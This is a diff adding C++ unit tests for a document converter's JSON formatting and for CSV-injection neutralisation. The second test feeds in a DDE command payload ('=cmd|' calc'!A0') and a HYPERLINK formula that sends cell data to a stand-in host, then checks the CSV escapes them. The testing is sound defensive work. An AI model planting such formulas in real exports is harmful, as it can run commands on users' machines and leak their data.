@@ -169,6 +169,45 @@ TEST(DocumentToJson, SameInputSameBytes) {
   EXPECT_EQ(FactsToCsv(f.document, f.normalized), FactsToCsv(f.document, f.normalized));
 }
 
+TEST(DocumentToJson, CompactIsOneLineAndPrettyIsItsTwoSpaceDump) {
+  const Fixture f = MakeFixture();
+  const std::string compact = DocumentToJson(f.document, f.normalized);
+  const std::string pretty = DocumentToJson(f.document, f.normalized, JsonStyle::kPretty);
+  EXPECT_EQ(compact.find('\n'), compact.size() - 1);
+  const nlohmann::ordered_json parsed = nlohmann::ordered_json::parse(compact);
+  EXPECT_EQ(parsed, nlohmann::ordered_json::parse(pretty));
+  EXPECT_EQ(compact, parsed.dump() + "\n");
+  EXPECT_EQ(pretty, parsed.dump(2) + "\n");
+  EXPECT_LT(compact.size() * 3, pretty.size() * 2);
+}
+
+// Issue 14: text a spreadsheet would run is neutralised in the CSV only; the JSON keeps it raw.
+TEST(FactsToCsv, FormulaTextIsNeutralisedAmountsAreNot) {
+  Fixture f = MakeFixture();
+  f.document.source.name = "=cmd|' calc'!A0.txt";
+  const std::string hyperlink = "=HYPERLINK(\"http://x.example/?\"&A1,\"行政运行\")";
+  f.normalized.tables[0].rows[0].values[0].row_name = hyperlink;
+  f.normalized.tables[0].rows[0].values[0].printed_text = "@SUM(1+1)";
+  f.normalized.narrative[0].row_name = "+1";
+  const std::string csv = FactsToCsv(f.document, f.normalized);
+  EXPECT_EQ(csv.find("\r\n=cmd"), std::string::npos) << csv;
+  EXPECT_NE(csv.find("\r\n'=cmd|' calc'!A0.txt,"), std::string::npos) << csv;
+  EXPECT_NE(csv.find(",\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"行政运行\"\")\",basic,"),
+            std::string::npos)
+      << csv;
+  EXPECT_NE(csv.find(",'@SUM(1+1),"), std::string::npos) << csv;
+  EXPECT_NE(csv.find(",'+1,amount,"), std::string::npos) << csv;
+  // The negative amount stays a number.
+  EXPECT_NE(csv.find(",basic,-0.05,"), std::string::npos) << csv;
+  // No field of any row starts with a formula character (after an optional opening quote).
+  for (const std::string prefix : {",=", ",+", ",@", ",\"=", ",\"+", ",\"@", ",\"-", "\n="}) {
+    EXPECT_EQ(csv.find(prefix), std::string::npos) << prefix;
+  }
+  const nlohmann::json json = nlohmann::json::parse(DocumentToJson(f.document, f.normalized));
+  EXPECT_EQ(json["source"]["name"], "=cmd|' calc'!A0.txt");
+  EXPECT_EQ(json["tables"][0]["rows"][0]["values"][0]["row_name"], hyperlink);
+}
+
 TEST(ErrorToJson, SourceCodeMessageOnOneLine) {
   const std::string text =
       ErrorToJson("a.pdf", Status(ErrorCode::kEncrypted, "needs a password\nsecond line"));
